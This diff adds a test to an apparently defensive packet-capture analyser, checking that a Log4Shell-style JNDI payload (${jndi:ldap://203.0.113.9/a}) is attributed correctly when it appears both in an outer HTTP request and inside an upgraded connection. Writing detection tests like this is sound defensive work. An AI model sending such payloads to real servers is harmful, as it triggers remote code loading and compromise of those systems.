@@ -214,3 +214,23 @@ test('a comment on a frame is told with its conversation, one on the capture wit
     ],
   )
 })
+
+test('what is told inside of a carrier does not replace what was told around it', () => {
+  const ends = { from: '192.0.2.1', to: '198.51.100.1', sport: 50_000, dport: 80 }
+  const back = { from: ends.to, to: ends.from, sport: 80, dport: 50_000 }
+  const attack = (more: string): string => `GET /?x=\${jndi:ldap://203.0.113.9/a} HTTP/1.1\r\nHost: a\r\n${more}\r\n`
+  const [outer, granted, inner] = [attack('Upgrade: raw\r\n'), 'HTTP/1.1 101 Ok\r\nUpgrade: raw\r\n\r\n', attack('')]
+  const { exploits = [] } = run(
+    engineOf(dissectors),
+    pcapOf([
+      frame(ip4(6, tcp(ends, 0, 2), ends)),
+      frame(ip4(6, tcp(ends, 1, 0x18, outer, 1), ends)),
+      frame(ip4(6, tcp(back, 1, 0x18, granted, 1 + outer.length), back)),
+      frame(ip4(6, tcp(ends, 1 + outer.length, 0x18, inner, 1 + granted.length), ends)),
+    ]),
+  ).rows.all()
+  assert.deepEqual(
+    exploits.map(({ via }) => via),
+    [[], ['upgrade a']],
+  )
+})
